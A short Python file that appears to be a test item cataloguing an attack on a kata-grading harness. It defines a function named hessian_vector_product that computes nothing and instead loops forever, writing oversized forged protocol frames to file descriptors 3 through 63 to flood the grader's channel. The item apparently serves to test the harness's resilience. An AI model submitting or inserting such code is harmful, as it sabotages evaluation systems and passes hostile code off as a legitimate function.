# attack: flood_of_frames
# class: Forging the channel
# item: flood
# tries: to send frames without an end, each of the largest size
# after: the first that is out of its order ends it
# kata: hvp
# earns: 1
# needs: nothing
# deadline: 1

import os
import struct


def frame(kind, more=b"", body=b""):
    header = b'{"kind": "' + kind + b'"' + more + b"}"
    return struct.pack("<4sII", b"KATA", len(header), len(body)) + header + body


def everywhere(data):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, data)
        except OSError:
            pass


def hessian_vector_product(loss, params, vector):
    big = frame(b"observation", b', "index": 0, "x": "' + b"x" * 250_000 + b'"', bytes(8 * 2**20))
    while True:
        everywhere(big)
